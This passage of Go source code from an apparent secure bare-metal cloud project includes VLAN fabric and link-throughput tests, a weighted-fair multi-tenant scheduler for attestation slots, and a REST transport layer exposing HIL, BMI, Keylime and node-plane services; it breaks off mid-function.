	if len(vs) != 0 {
		t.Errorf("quarantined port still on VLANs %v", vs)
	}
}

func TestVLANPoolLifecycle(t *testing.T) {
	f, err := NewFabric(100, 101)
	if err != nil {
		t.Fatal(err)
	}
	a, _ := f.AllocateVLAN("x")
	b, _ := f.AllocateVLAN("y")
	if a == b {
		t.Fatal("duplicate VLAN allocation")
	}
	if _, err := f.AllocateVLAN("z"); err == nil {
		t.Fatal("exhausted pool still allocated")
	}
	f.AddPort("p")
	f.Attach("p", a)
	if err := f.FreeVLAN(a); err == nil {
		t.Fatal("freed VLAN with members")
	}
	f.Detach("p", a)
	if err := f.FreeVLAN(a); err != nil {
		t.Fatal(err)
	}
	if _, err := f.AllocateVLAN("again"); err != nil {
		t.Fatal("freed VLAN not reusable")
	}
	if err := f.FreeVLAN(55); err == nil {
		t.Fatal("freeing unallocated VLAN succeeded")
	}
}

func TestPortErrors(t *testing.T) {
	f := newFabric(t)
	f.AddPort("p")
	if _, err := f.AddPort("p"); err == nil {
		t.Error("duplicate port accepted")
	}
	v, _ := f.AllocateVLAN("t")
	if err := f.Attach("ghost", v); err == nil {
		t.Error("attach of unknown port accepted")
	}
	if err := f.Attach("p", 4000); err == nil {
		t.Error("attach to unallocated VLAN accepted")
	}
	if err := f.Detach("p", v); err == nil {
		t.Error("detach from unjoined VLAN accepted")
	}
	if f.Reachable("ghost", "p") {
		t.Error("unknown port reachable")
	}
}

func TestMembers(t *testing.T) {
	f := newFabric(t)
	f.AddPort("b")
	f.AddPort("a")
	v, _ := f.AllocateVLAN("t")
	f.Attach("b", v)
	f.Attach("a", v)
	m := f.Members(v)
	if len(m) != 2 || m[0] != "a" || m[1] != "b" {
		t.Fatalf("Members = %v, want [a b]", m)
	}
}

func TestInvalidRanges(t *testing.T) {
	for _, r := range [][2]VLANID{{0, 10}, {10, 5}, {1, 4095}} {
		if _, err := NewFabric(r[0], r[1]); err == nil {
			t.Errorf("range %v accepted", r)
		}
	}
}

// Property: reachability is symmetric and requires shared membership.
func TestQuickReachabilitySymmetric(t *testing.T) {
	f := newFabric(t)
	f.AddPort("a")
	f.AddPort("b")
	vs := make([]VLANID, 10)
	for i := range vs {
		vs[i], _ = f.AllocateVLAN("t")
	}
	check := func(aMask, bMask uint16) bool {
		f.DetachAll("a")
		f.DetachAll("b")
		share := false
		for i, v := range vs {
			if aMask&(1<<i) != 0 {
				f.Attach("a", v)
			}
			if bMask&(1<<i) != 0 {
				f.Attach("b", v)
			}
			if aMask&(1<<i) != 0 && bMask&(1<<i) != 0 {
				share = true
			}
		}
		return f.Reachable("a", "b") == share && f.Reachable("b", "a") == share
	}
	if err := quick.Check(check, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestPrivateVLANIsolation(t *testing.T) {
	f := newFabric(t)
	for _, p := range []string{"nodeA", "nodeB", "svc"} {
		f.AddPort(p)
	}
	v, _ := f.AllocateVLAN("provisioning")
	if err := f.SetVLANIsolated(v, true); err != nil {
		t.Fatal(err)
	}
	if err := f.SetVLANIsolated(999, true); err == nil {
		t.Fatal("isolating unallocated VLAN accepted")
	}
	f.Attach("nodeA", v)
	f.Attach("nodeB", v)
	if err := f.AttachPromiscuous("svc", v); err != nil {
		t.Fatal(err)
	}
	if f.Reachable("nodeA", "nodeB") {
		t.Fatal("host ports reach each other on private VLAN")
	}
	if !f.Reachable("nodeA", "svc") || !f.Reachable("svc", "nodeB") {
		t.Fatal("host port cannot reach promiscuous service port")
	}
	// Detach clears promiscuous state; reattach as host is host-only.
	f.Detach("svc", v)
	f.Attach("svc", v)
	if f.Reachable("nodeA", "svc") {
		t.Fatal("promiscuous flag survived detach")
	}
	// Un-isolating restores flat reachability.
	f.SetVLANIsolated(v, false)
	if !f.Reachable("nodeA", "nodeB") {
		t.Fatal("flat VLAN members not reachable")
	}
}

func TestTransferTimeMonotone(t *testing.T) {
	l := TenGbE(9000)
	var prev time.Duration
	for _, n := range []int64{1 << 10, 1 << 20, 1 << 26, 1 << 30} {
		tt := l.TransferTime(n, TransferCost{})
		if tt <= prev {
			t.Fatalf("transfer time not increasing: %v after %v", tt, prev)
		}
		prev = tt
	}
}

func TestTransferCostsSlowDown(t *testing.T) {
	l := TenGbE(1500)
	base := l.TransferTime(1<<26, TransferCost{})
	withHdr := l.TransferTime(1<<26, TransferCost{PerPacketHdr: 52})
	withCPU := l.TransferTime(1<<26, TransferCost{PerPacketHdr: 52, PerPacketCPU: 2 * time.Microsecond})
	if withHdr <= base {
		t.Error("header overhead did not slow transfer")
	}
	if withCPU <= withHdr {
		t.Error("CPU cost did not slow transfer")
	}
}

// Jumbo frames beat standard MTU when per-packet costs dominate —
// the paper's Figure 3b jumbo-frame result.
func TestJumboFramesHelpUnderIPsec(t *testing.T) {
	cost := TransferCost{PerPacketHdr: 52, PerPacketCPU: 3 * time.Microsecond}
	std := TenGbE(1500).Throughput(cost)
	jumbo := TenGbE(9000).Throughput(cost)
	if jumbo <= std {
		t.Fatalf("jumbo %v <= standard %v under per-packet cost", jumbo, std)
	}
	// Without per-packet CPU cost the gap should be much smaller.
	plainStd := TenGbE(1500).Throughput(TransferCost{})
	plainJumbo := TenGbE(9000).Throughput(TransferCost{})
	if plainJumbo/plainStd > jumbo/std {
		t.Fatal("jumbo advantage not driven by per-packet cost")
	}
}

func TestCipherBandwidthCap(t *testing.T) {
	l := TenGbE(9000)
	capped := l.Throughput(TransferCost{CPUBandwidthBps: 4e9})
	if capped > 5.5e9 {
		t.Fatalf("throughput %g not limited by 4 Gbit cipher", capped)
	}
	uncapped := l.Throughput(TransferCost{})
	if uncapped < 8e9 {
		t.Fatalf("plain throughput %g unexpectedly low", uncapped)
	}
}
