package core

import (
	"container/heap"
	"context"
	"errors"
	"fmt"
	"sync"
	"time"
)

// This file is the multi-tenant QoS layer: a weighted-fair scheduler
// arbitrating the cloud's attestation airlock slots — the shared,
// contended resource every acquisition (cold quote, warm re-quote,
// background refill pre-attest) serializes through. PR 5 made the
// slots plural; this makes them fair: per-tenant virtual-time queueing
// (so one tenant's 64-node batch cannot starve a neighbour's 2-node
// acquire), strict priority of foreground acquisitions over background
// warm-pool refills (with preemption of in-flight refill quotes), and
// the tenant quota/admission types the /v1 control plane enforces.

// ErrOverQuota rejects work that exceeds a tenant quota or the
// scheduler's admission bound. The /v1 surface maps it to HTTP 429
// with a Retry-After hint; V1Client retries it transparently.
var ErrOverQuota = errors.New("core: over quota")

// DefaultRetryAfter is the Retry-After hint attached to quota
// rejections when no better estimate exists.
const DefaultRetryAfter = 1 * time.Second

// DefaultMaxSchedQueue is the admission bound on the scheduler's
// airlock queue depth: past it, new acquisitions are rejected with
// ErrOverQuota instead of joining a queue already minutes long.
const DefaultMaxSchedQueue = 1024

// QuotaError is an ErrOverQuota with context: which tenant, why, and
// when retrying might succeed. errors.Is(err, ErrOverQuota) matches.
type QuotaError struct {
	Tenant     string
	Detail     string
	RetryAfter time.Duration
}

func (e *QuotaError) Error() string {
	return fmt.Sprintf("core: over quota: %s", e.Detail)
}

// Is makes errors.Is(err, ErrOverQuota) true for every QuotaError.
func (e *QuotaError) Is(target error) bool { return target == ErrOverQuota }

// TenantQuota is one tenant's scheduling weight and admission caps.
// Zero fields are unlimited (weight 0 means the default weight 1). The
// struct carries its wire tags; /v1/quotas serves it as-is.
type TenantQuota struct {
	// Weight is the tenant's weighted-fair share of airlock slots
	// relative to other tenants (default 1).
	Weight int `json:"weight,omitempty"`
	// MaxNodes caps the tenant's total footprint: members plus nodes
	// mid-acquisition. 0 = unlimited.
	MaxNodes int `json:"max_nodes,omitempty"`
	// MaxInFlight caps how many nodes the tenant may have
	// mid-acquisition at once. 0 = unlimited.
	MaxInFlight int `json:"max_in_flight,omitempty"`
}

// Validate reports quota inconsistencies.
func (q TenantQuota) Validate() error {
	switch {
	case q.Weight < 0:
		return fmt.Errorf("%w: quota weight must be >= 0", ErrInvalid)
	case q.MaxNodes < 0:
		return fmt.Errorf("%w: max nodes must be >= 0", ErrInvalid)
	case q.MaxInFlight < 0:
		return fmt.Errorf("%w: max in-flight must be >= 0", ErrInvalid)
	default:
		return nil
	}
}

// weight returns the effective WFQ weight.
func (q TenantQuota) weight() float64 {
	if q.Weight < 1 {
		return 1
	}
	return float64(q.Weight)
}

// QuotaStatus is a tenant quota plus its live usage, the /v1/quotas
// wire form.
type QuotaStatus struct {
	Tenant   string      `json:"tenant"`
	Quota    TenantQuota `json:"quota"`
	Nodes    int         `json:"nodes"`     // current enclave members
	InFlight int         `json:"in_flight"` // nodes mid-acquisition
}

// SchedClass is a strict priority band: every queued foreground
// request is served before any background one.
type SchedClass int

// Scheduling classes.
const (
	// ClassBackground is warm-pool refill work: it fills idle slots
	// and yields (including in-flight preemption) to foreground.
	ClassBackground SchedClass = iota
	// ClassForeground is tenant-visible acquisition work.
	ClassForeground
)

func (c SchedClass) String() string {
	if c == ClassBackground {
		return "background"
	}
	return "foreground"
}

// --- weighted-fair queue ---

// fqItem is one queued request.
type fqItem struct {
	id     uint64
	tenant string
	class  SchedClass
	tag    float64 // virtual finish time
	seq    uint64  // FIFO tie-break at equal tags
	index  int     // heap index; -1 once popped or removed
}

type fqHeap []*fqItem

func (h fqHeap) Len() int { return len(h) }
func (h fqHeap) Less(i, j int) bool {
	if h[i].tag != h[j].tag {
		return h[i].tag < h[j].tag
	}
	return h[i].seq < h[j].seq
}
func (h fqHeap) Swap(i, j int) {
	h[i], h[j] = h[j], h[i]
	h[i].index = i
	h[j].index = j
}
func (h *fqHeap) Push(x interface{}) {
	it := x.(*fqItem)
	it.index = len(*h)
	*h = append(*h, it)
}
func (h *fqHeap) Pop() interface{} {
	old := *h
	n := len(old)
	it := old[n-1]
	old[n-1] = nil
	it.index = -1
	*h = old[:n-1]
	return it
}

// FairQueue is a virtual-time weighted-fair queue with two strict
// priority bands. Each Push is a unit of service charged 1/weight of
// virtual time against its tenant, so a backlogged heavy tenant's
// requests interleave with light tenants' instead of forming a train.
// It is a pure data structure — externally synchronized — shared by
// the runtime Scheduler and the boltedsim churn model, so simulated
// and real arbitration agree by construction.
type FairQueue struct {
	weights map[string]float64
	finish  map[string]float64 // last assigned finish tag per tenant
	vtime   float64
	items   map[uint64]*fqItem
	bands   [2]fqHeap // indexed by SchedClass
	nextID  uint64
	nextSeq uint64
}

// NewFairQueue returns an empty queue; every tenant starts at weight 1.
func NewFairQueue() *FairQueue {
	return &FairQueue{
		weights: make(map[string]float64),
		finish:  make(map[string]float64),
		items:   make(map[uint64]*fqItem),
	}
}

// SetWeight sets a tenant's fair-share weight (values < 1 reset to 1).
func (q *FairQueue) SetWeight(tenant string, w float64) {
	if w < 1 {
		w = 1
	}
	q.weights[tenant] = w
}

// Weight returns a tenant's effective weight.
func (q *FairQueue) Weight(tenant string) float64 {
	if w, ok := q.weights[tenant]; ok {
		return w
	}
	return 1
}

// Push enqueues one unit request for a tenant and returns its id.
func (q *FairQueue) Push(tenant string, class SchedClass) uint64 {
	q.nextID++
	tag := q.vtime
	if f := q.finish[tenant]; f > tag {
		tag = f
	}
	tag += 1 / q.Weight(tenant)
	q.finish[tenant] = tag
	it := &fqItem{id: q.nextID, tenant: tenant, class: class, tag: tag, seq: q.nextSeq}
	q.nextSeq++
	q.items[it.id] = it
	heap.Push(&q.bands[class], it)
	return it.id
}

// Pop dequeues the next request: the earliest virtual finish tag in
// the foreground band, falling back to background only when no
// foreground request waits.
func (q *FairQueue) Pop() (id uint64, tenant string, ok bool) {
	for _, class := range []SchedClass{ClassForeground, ClassBackground} {
		if len(q.bands[class]) == 0 {
			continue
		}
		it := heap.Pop(&q.bands[class]).(*fqItem)
		delete(q.items, it.id)
		if it.tag > q.vtime {
			q.vtime = it.tag
		}
		return it.id, it.tenant, true
	}
	return 0, "", false
}

// Remove deletes a queued request (a cancelled waiter).
func (q *FairQueue) Remove(id uint64) bool {
	it, ok := q.items[id]
	if !ok {
		return false
	}
	delete(q.items, id)
	heap.Remove(&q.bands[it.class], it.index)
	return true
}

// Len reports how many requests are queued across both bands.
func (q *FairQueue) Len() int { return len(q.items) }

// LenClass reports how many requests of one class are queued.
func (q *FairQueue) LenClass(class SchedClass) int { return len(q.bands[class]) }

// --- runtime scheduler ---

// TenantSchedStats is one tenant's share of scheduler activity.
type TenantSchedStats struct {
	Weight  float64       `json:"weight"`
	Grants  uint64        `json:"grants"`
	Waited  time.Duration `json:"waited_ns"` // cumulative queue time
	Queued  int           `json:"queued"`
	Holding int           `json:"holding"`
}

// SchedStats is a point-in-time view of the airlock scheduler, the
// /v1/sched wire form.
type SchedStats struct {
	Slots       int                         `json:"slots"`
	InUse       int                         `json:"in_use"`
	Queued      int                         `json:"queued"`
	Grants      uint64                      `json:"grants"`
	Preemptions uint64                      `json:"preemptions"`
	Tenants     map[string]TenantSchedStats `json:"tenants,omitempty"`
}

// schedWaiter is one goroutine parked in Acquire.
type schedWaiter struct {
	tenant  string
	class   SchedClass
	preempt context.CancelFunc
	enq     time.Time
	granted chan uint64 // buffered: receives the grant id
}

// schedGrant is one held slot.
type schedGrant struct {
	id        uint64
	tenant    string
	class     SchedClass
	preempt   context.CancelFunc
	preempted bool
}

// Scheduler arbitrates the cloud's airlock slots across tenants with
// weighted-fair queueing, strict foreground-over-background priority,
// and preemption of background holders when foreground work waits. It
// is safe for concurrent use.
type Scheduler struct {
	mu      sync.Mutex
	slots   int
	inUse   int
	fq      *FairQueue
	waiters map[uint64]*schedWaiter // fq id -> waiter
	holders map[uint64]*schedGrant  // grant id -> grant
	nextG   uint64

	grants      uint64
	preemptions uint64
	tGrants     map[string]uint64
	tWaited     map[string]time.Duration

	// m holds the pre-resolved observability instruments (all nil when
	// the cloud is uninstrumented); tQueued tracks per-tenant queue
	// depth for the gauge, maintained only while instrumented.
	m       schedMetrics
	tQueued map[string]int
}

// setMetrics attaches the scheduler's instrument set (Cloud.SetMetrics
// calls it before the scheduler sees traffic).
func (s *Scheduler) setMetrics(m schedMetrics) {
	s.mu.Lock()
	s.m = m
	s.mu.Unlock()
}

// noteQueuedLocked folds a queue-depth change into the per-tenant
// gauge. Callers hold s.mu.
func (s *Scheduler) noteQueuedLocked(tenant string, delta int) {
	if s.m.queued == nil {
		return
	}
	if s.tQueued == nil {
		s.tQueued = make(map[string]int)
	}
	n := s.tQueued[tenant] + delta
	if n <= 0 {
		delete(s.tQueued, tenant)
		n = 0
	} else {
		s.tQueued[tenant] = n
	}
	s.m.queued.With(tenant).Set(float64(n))
}

// NewScheduler returns a scheduler with the given slot count.
func NewScheduler(slots int) *Scheduler {
	if slots < 1 {
		slots = 1
	}
	return &Scheduler{
		slots:   slots,
		fq:      NewFairQueue(),
		waiters: make(map[uint64]*schedWaiter),
		holders: make(map[uint64]*schedGrant),
		tGrants: make(map[string]uint64),
		tWaited: make(map[string]time.Duration),
	}
}

// SetSlots resizes the slot count. Shrinking never revokes held
// slots; the count drains down as holders release.
func (s *Scheduler) SetSlots(n int) {
	if n < 1 {
		n = 1
	}
	s.mu.Lock()
	s.slots = n
	s.dispatchLocked()
	s.mu.Unlock()
}

// SetWeight sets a tenant's fair-share weight.
func (s *Scheduler) SetWeight(tenant string, w float64) {
	s.mu.Lock()
	s.fq.SetWeight(tenant, w)
	s.mu.Unlock()
}

// Queued reports the current queue depth (admission control reads it).
func (s *Scheduler) Queued() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.fq.Len()
}

// Stats returns a snapshot of scheduler state and counters.
func (s *Scheduler) Stats() SchedStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	st := SchedStats{
		Slots:       s.slots,
		InUse:       s.inUse,
		Queued:      s.fq.Len(),
		Grants:      s.grants,
		Preemptions: s.preemptions,
		Tenants:     make(map[string]TenantSchedStats),
	}
	touch := func(t string) TenantSchedStats {
		ts := st.Tenants[t]
		ts.Weight = s.fq.Weight(t)
		return ts
	}
	for t, g := range s.tGrants {
		ts := touch(t)
		ts.Grants = g
		ts.Waited = s.tWaited[t]
		st.Tenants[t] = ts
	}
	for _, w := range s.waiters {
		ts := touch(w.tenant)
		ts.Queued++
		st.Tenants[w.tenant] = ts
	}
	for _, g := range s.holders {
		ts := touch(g.tenant)
		ts.Holding++
		st.Tenants[g.tenant] = ts
	}
	return st
}

// Acquire takes one slot for a tenant, blocking under weighted-fair
// arbitration until granted or ctx ends. Background requests may pass
// a preempt hook: when foreground work queues behind a full house, the
// scheduler cancels one background holder's hook so the slot frees at
// the holder's next context check. The returned func releases the
// slot (idempotent).
func (s *Scheduler) Acquire(ctx context.Context, tenant string, class SchedClass, preempt context.CancelFunc) (release func(), err error) {
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	s.mu.Lock()
	id := s.fq.Push(tenant, class)
	w := &schedWaiter{
		tenant:  tenant,
		class:   class,
		preempt: preempt,
		enq:     time.Now(),
		granted: make(chan uint64, 1),
	}
	s.waiters[id] = w
	s.noteQueuedLocked(tenant, +1)
	s.dispatchLocked()
	if _, waiting := s.waiters[id]; waiting && class == ClassForeground {
		// No free slot for foreground work: displace a background
		// holder (an in-flight warm-refill quote) if one exists.
		s.preemptOneLocked()
	}
	s.mu.Unlock()

	select {
	case gid := <-w.granted:
		return func() { s.release(gid) }, nil
	case <-ctx.Done():
		s.mu.Lock()
		if _, waiting := s.waiters[id]; waiting {
			delete(s.waiters, id)
			s.fq.Remove(id)
			s.noteQueuedLocked(tenant, -1)
			s.mu.Unlock()
			return nil, fmt.Errorf("core: %w", ctx.Err())
		}
		s.mu.Unlock()
		// A grant raced the cancellation: take it and hand it back.
		s.release(<-w.granted)
		return nil, fmt.Errorf("core: %w", ctx.Err())
	}
}

// dispatchLocked grants free slots to queued waiters in fair order.
func (s *Scheduler) dispatchLocked() {
	for s.inUse < s.slots {
		id, _, ok := s.fq.Pop()
		if !ok {
			return
		}
		w := s.waiters[id]
		delete(s.waiters, id)
		s.inUse++
		s.nextG++
		g := &schedGrant{id: s.nextG, tenant: w.tenant, class: w.class, preempt: w.preempt}
		s.holders[g.id] = g
		s.grants++
		s.tGrants[w.tenant]++
		waited := time.Since(w.enq)
		s.tWaited[w.tenant] += waited
		s.noteQueuedLocked(w.tenant, -1)
		s.m.wait[w.class].Observe(waited.Seconds())
		s.m.grants.With(w.tenant).Inc()
		s.m.inUse.Set(float64(s.inUse))
		w.granted <- g.id
	}
}

// preemptOneLocked cancels the oldest background holder that has not
// already been preempted. The slot itself frees when the holder's
// pipeline notices its context and releases.
func (s *Scheduler) preemptOneLocked() {
	var victim *schedGrant
	for _, g := range s.holders {
		if g.class != ClassBackground || g.preempted || g.preempt == nil {
			continue
		}
		if victim == nil || g.id < victim.id {
			victim = g
		}
	}
	if victim == nil {
		return
	}
	victim.preempted = true
	s.preemptions++
	s.m.preempt.Inc()
	victim.preempt()
}

// release frees one granted slot and dispatches the next waiter.
func (s *Scheduler) release(gid uint64) {
	s.mu.Lock()
	if _, held := s.holders[gid]; held {
		delete(s.holders, gid)
		s.inUse--
		s.m.inUse.Set(float64(s.inUse))
		s.dispatchLocked()
	}
	s.mu.Unlock()
}

// --- scheduling class propagation ---

type schedClassKey struct{}
type schedPreemptKey struct{}

// withSchedBackground marks ctx as background work and returns the
// cancel the scheduler may invoke to preempt it. The warm-pool
// refiller wraps each refill attempt in one, so a foreground acquire
// can displace an in-flight refill without touching the pool itself.
func withSchedBackground(ctx context.Context) (context.Context, context.CancelFunc) {
	ctx, cancel := context.WithCancel(ctx)
	ctx = context.WithValue(ctx, schedClassKey{}, ClassBackground)
	ctx = context.WithValue(ctx, schedPreemptKey{}, cancel)
	return ctx, cancel
}

// schedRequest reads the scheduling class (and preemption hook) off a
// context; unmarked contexts are foreground.
func schedRequest(ctx context.Context) (SchedClass, context.CancelFunc) {
	if c, ok := ctx.Value(schedClassKey{}).(SchedClass); ok && c == ClassBackground {
		cancel, _ := ctx.Value(schedPreemptKey{}).(context.CancelFunc)
		return ClassBackground, cancel
	}
	return ClassForeground, nil
}
