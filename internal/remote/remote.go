// Package remote is the transport seam that lets the enclave pipeline
// run against a deployment in another process: NewHandler puts the
// full Bolted service plane (HIL, BMI, Keylime registrar, and the
// node plane) behind one REST surface, and Dial builds a core.Cloud
// whose services are HTTP clients against that surface. The tenant's
// orchestration engine then trusts nothing but the wire API — the
// deployment shape of the paper's §4, where HIL, BMI and attestation
// are provider-run network services.
package remote

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/hil"
	"bolted/internal/ima"
	"bolted/internal/keylime"
	"bolted/internal/tpm"
)

// Route prefixes of the combined surface. HIL stays at the root so
// existing HIL-only tooling keeps working against a full boltedd.
const (
	prefixBMI       = "/bmi"
	prefixRegistrar = "/registrar"
	prefixPlane     = "/plane"
)

// serverInfo describes a deployment to dialling tenants.
type serverInfo struct {
	Nodes       int    `json:"nodes"`
	Firmware    string `json:"firmware"`
	PlatformGen string `json:"platform_gen"`
}

// nodePlane serves the node-side pipeline steps over REST by
// delegating to the cloud's in-process driver, and fronts each booted
// node's Keylime agent under /nodes/{node}/agent/.
type nodePlane struct {
	cloud *core.Cloud

	mu     sync.Mutex
	agents map[string]http.Handler
}

// kexecRequest is the wire form of a kexec. Attested kexecs carry no
// kernel bytes: the node boots what its agent unwrapped.
type kexecRequest struct {
	KernelID string
	Kernel   []byte
	Initrd   []byte
	Attested bool
}

func (np *nodePlane) handler() http.Handler {
	mux := http.NewServeMux()
	writeJSON := func(w http.ResponseWriter, v interface{}) {
		w.Header().Set("Content-Type", "application/json")
		if err := json.NewEncoder(w).Encode(v); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	}

	mux.HandleFunc("POST /nodes/{node}/boot", func(w http.ResponseWriter, r *http.Request) {
		node := r.PathValue("node")
		conn, err := np.cloud.Driver.Boot(r.Context(), node)
		if err != nil {
			http.Error(w, err.Error(), http.StatusConflict)
			return
		}
		agent, ok := conn.(*keylime.Agent)
		if !ok {
			http.Error(w, "boltedd: driver returned a non-local agent", http.StatusInternalServerError)
			return
		}
		np.mu.Lock()
		np.agents[node] = keylime.NewAgentHandler(agent)
		np.mu.Unlock()
		writeJSON(w, map[string]string{"uuid": conn.UUID()})
	})
	mux.HandleFunc("/nodes/{node}/agent/", func(w http.ResponseWriter, r *http.Request) {
		node := r.PathValue("node")
		np.mu.Lock()
		h := np.agents[node]
		np.mu.Unlock()
		if h == nil {
			http.Error(w, fmt.Sprintf("boltedd: node %q has no running agent", node), http.StatusNotFound)
			return
		}
		http.StripPrefix("/nodes/"+node+"/agent", h).ServeHTTP(w, r)
	})
	mux.HandleFunc("GET /nodes/{node}/pcrs", func(w http.ResponseWriter, r *http.Request) {
		pcrs, err := np.cloud.Driver.ExpectedBootPCRs(r.Context(), r.PathValue("node"))
		if err != nil {
			http.Error(w, err.Error(), http.StatusNotFound)
			return
		}
		wire := make(map[string][]string, len(pcrs))
		for pcr, ds := range pcrs {
			key := fmt.Sprintf("%d", pcr)
			for _, d := range ds {
				wire[key] = append(wire[key], hex.EncodeToString(d[:]))
			}
		}
		writeJSON(w, wire)
	})
	mux.HandleFunc("POST /nodes/{node}/kexec", func(w http.ResponseWriter, r *http.Request) {
		var req kexecRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		node := r.PathValue("node")
		var err error
		if req.Attested {
			err = np.cloud.Driver.KexecAttested(r.Context(), node, req.KernelID)
		} else {
			err = np.cloud.Driver.Kexec(r.Context(), node, req.KernelID, req.Kernel, req.Initrd)
		}
		if err != nil {
			http.Error(w, err.Error(), http.StatusConflict)
			return
		}
	})
	mux.HandleFunc("POST /nodes/{node}/stop", func(w http.ResponseWriter, r *http.Request) {
		node := r.PathValue("node")
		if err := np.cloud.Driver.StopAgent(r.Context(), node); err != nil {
			http.Error(w, err.Error(), http.StatusConflict)
			return
		}
		np.mu.Lock()
		delete(np.agents, node)
		np.mu.Unlock()
	})
	mux.HandleFunc("POST /nodes/{node}/ima", func(w http.ResponseWriter, r *http.Request) {
		// The collector stays attached to the node's agent server-side;
		// the tenant's verifier reads it through the agent's IMA list.
		if _, err := np.cloud.Driver.StartIMA(r.Context(), r.PathValue("node")); err != nil {
			http.Error(w, err.Error(), http.StatusConflict)
			return
		}
	})
	mux.HandleFunc("PUT /ports/{port}", func(w http.ResponseWriter, r *http.Request) {
		if err := np.cloud.Driver.AddServicePort(r.Context(), r.PathValue("port")); err != nil {
			http.Error(w, err.Error(), http.StatusConflict)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("GET /reachable", func(w http.ResponseWriter, r *http.Request) {
		from, to := r.URL.Query().Get("from"), r.URL.Query().Get("to")
		if err := np.cloud.Driver.Reachable(r.Context(), from, to); err != nil {
			http.Error(w, err.Error(), http.StatusConflict)
			return
		}
	})
	return mux
}

// NewHandler exposes a fully in-process cloud's complete service plane
// over HTTP: HIL at /, BMI under /bmi, the Keylime registrar under
// /registrar, the node plane under /plane, and the versioned tenant
// control plane under /v1 (server-side enclaves with async
// acquisition Operations, backed by a fresh core.Manager). A tenant
// holding only this surface can run the entire enclave pipeline via
// Dial, or let the server run it via /v1.
func NewHandler(cloud *core.Cloud) (http.Handler, error) {
	return NewHandlerWithManager(cloud, core.NewManager(cloud))
}

// NewHandlerWithManager is NewHandler with a caller-owned control
// plane — for servers (and tests) that need to reach the Manager
// behind the /v1 surface.
func NewHandlerWithManager(cloud *core.Cloud, mgr *core.Manager) (http.Handler, error) {
	h, b, reg := cloud.LocalHIL(), cloud.LocalBMI(), cloud.LocalRegistrar()
	if h == nil || b == nil || reg == nil {
		return nil, fmt.Errorf("remote: handler needs an in-process cloud (got a remote one?)")
	}
	np := &nodePlane{cloud: cloud, agents: make(map[string]http.Handler)}
	mux := http.NewServeMux()
	mux.Handle(prefixBMI+"/", http.StripPrefix(prefixBMI, bmi.NewHandler(b)))
	mux.Handle(prefixRegistrar+"/", http.StripPrefix(prefixRegistrar, keylime.NewRegistrarHandler(reg)))
	mux.Handle(prefixPlane+"/", http.StripPrefix(prefixPlane, np.handler()))
	mux.Handle(prefixV1+"/", http.StripPrefix(prefixV1, NewV1Handler(mgr)))
	mux.HandleFunc("GET /info", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(serverInfo{
			Nodes:       cloud.Config.Nodes,
			Firmware:    string(cloud.Config.Firmware),
			PlatformGen: cloud.Config.PlatformGen,
		})
	})
	mux.Handle("/", hil.NewHandler(h))
	return mux, nil
}

// nodeDriver implements core.NodeDriver against boltedd's node-plane
// REST API.
type nodeDriver struct {
	base string
	http *http.Client
}

var _ core.NodeDriver = (*nodeDriver)(nil)

func (d *nodeDriver) do(ctx context.Context, method, path string, body, out interface{}) error {
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return err
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, method, d.base+prefixPlane+path, rd)
	if err != nil {
		return err
	}
	resp, err := d.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		msg, _ := io.ReadAll(resp.Body)
		return fmt.Errorf("remote: %s %s: %s: %s", method, path, resp.Status, bytes.TrimSpace(msg))
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	// Drain the (ignored, small) body so the keep-alive connection
	// goes back to the pool instead of being torn down.
	_, _ = io.Copy(io.Discard, resp.Body)
	return nil
}

// Boot implements core.NodeDriver: the node boots server-side; the
// returned handle drives its agent's REST API.
func (d *nodeDriver) Boot(ctx context.Context, node string) (keylime.AgentConn, error) {
	if err := d.do(ctx, "POST", "/nodes/"+url.PathEscape(node)+"/boot", struct{}{}, nil); err != nil {
		return nil, err
	}
	agent := keylime.NewRemoteAgent(node, d.base+prefixPlane+"/nodes/"+url.PathEscape(node)+"/agent")
	agent.HTTP = sharedHTTPClient // keep agent round trips on the pooled transport
	return agent, nil
}

// ExpectedBootPCRs implements core.NodeDriver.
func (d *nodeDriver) ExpectedBootPCRs(ctx context.Context, node string) (map[int][]tpm.Digest, error) {
	var wire map[string][]string
	if err := d.do(ctx, "GET", "/nodes/"+url.PathEscape(node)+"/pcrs", nil, &wire); err != nil {
		return nil, err
	}
	out := make(map[int][]tpm.Digest, len(wire))
	for key, ds := range wire {
		var pcr int
		if _, err := fmt.Sscanf(key, "%d", &pcr); err != nil {
			return nil, fmt.Errorf("remote: bad PCR index %q", key)
		}
		for _, s := range ds {
			raw, err := hex.DecodeString(s)
			if err != nil || len(raw) != tpm.DigestSize {
				return nil, fmt.Errorf("remote: bad PCR digest for %d", pcr)
			}
			var dig tpm.Digest
			copy(dig[:], raw)
			out[pcr] = append(out[pcr], dig)
		}
	}
	return out, nil
}

// KexecAttested implements core.NodeDriver.
func (d *nodeDriver) KexecAttested(ctx context.Context, node, kernelID string) error {
	return d.do(ctx, "POST", "/nodes/"+url.PathEscape(node)+"/kexec", kexecRequest{KernelID: kernelID, Attested: true}, nil)
}

// Kexec implements core.NodeDriver.
func (d *nodeDriver) Kexec(ctx context.Context, node, kernelID string, kernel, initrd []byte) error {
	return d.do(ctx, "POST", "/nodes/"+url.PathEscape(node)+"/kexec", kexecRequest{KernelID: kernelID, Kernel: kernel, Initrd: initrd}, nil)
}

// StartIMA implements core.NodeDriver: the collector lives on the
// node; the tenant reads measurements through the agent.
func (d *nodeDriver) StartIMA(ctx context.Context, node string) (*ima.Collector, error) {
